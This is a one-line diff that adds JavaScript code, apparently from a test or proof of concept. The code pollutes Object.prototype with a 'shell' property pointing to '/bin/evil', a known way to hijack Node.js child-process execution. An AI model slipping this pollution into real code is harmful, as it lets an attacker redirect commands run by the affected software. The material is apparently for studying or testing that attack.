@@ -1,0 +1,1 @@
+Reflect.defineProperty(Object.prototype, 'shell', { value: '/bin/evil' });
